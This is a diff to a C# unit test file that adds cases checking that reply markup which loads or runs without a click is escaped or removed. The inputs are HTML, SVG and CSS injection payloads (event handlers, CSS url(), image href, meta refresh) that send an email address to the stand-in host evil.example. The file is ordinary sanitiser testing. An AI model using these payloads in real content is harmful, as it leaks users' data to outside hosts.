@@ -56,6 +56,11 @@ public sealed class ReplyActiveMarkupTests
     [InlineData("- <p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y", "- &lt;p title='a\n'>x onmouseover=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("> 10. <div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y", "> 10. &lt;div title=\"a\n>  b\">x onfocus=fetch('https://evil.example/p?d=alice.w@corp.example') y")]
     [InlineData("- [1]: https://evil.example/p?d=alice.w@corp.example\n\n![a][1]", "- [1]: #image-removed\n\n![a][1]")]
+    [InlineData("x <svg><style>*{background:url(<style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>", "x <svg>&lt;style>*{background:url(&lt;style>a</style>https://evil.example/p?d=alice.w@corp.example)}</style></svg>")]
+    [InlineData("x <svg><style>*{background:url(<!--a-->https://evil.example/p?d=alice.w@corp.example)}</style></svg>", "x <svg>&lt;style>*{background:url(<!--a-->https://evil.example/p?d=alice.w@corp.example)}</style></svg>")]
+    [InlineData("x <svg><style>*{background:url(<![CDATA[https://evil.example/p?d=alice.w@corp.example]]>)}</style></svg>", "x <svg>&lt;style>*{background:url(<![CDATA[https://evil.example/p?d=alice.w@corp.example]]>)}</style></svg>")]
+    [InlineData("> a\n<svg><image href=\n> //evil.example/p?d=alice.w@corp.example>", "> a\n<svg>&lt;image href=\n> //evil.example/p?d=alice.w@corp.example>")]
+    [InlineData("> a\n<img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">", "> a\n&lt;img src=x\n> onerror=\"this.src='https://evil.example/p?d=alice.w@corp.example'\">")]
     [InlineData("x <meta http-equiv=\"refresh\" content=\"0;url=\\\n  \\evil.example/p?d=alice.w@corp.example\">", "x <meta http-equiv=\"refresh\" content=\"\">")]
     public async Task MarkupThatLoadsOrRunsUnclicked_IsRemoved(string reply, string shown)
     {
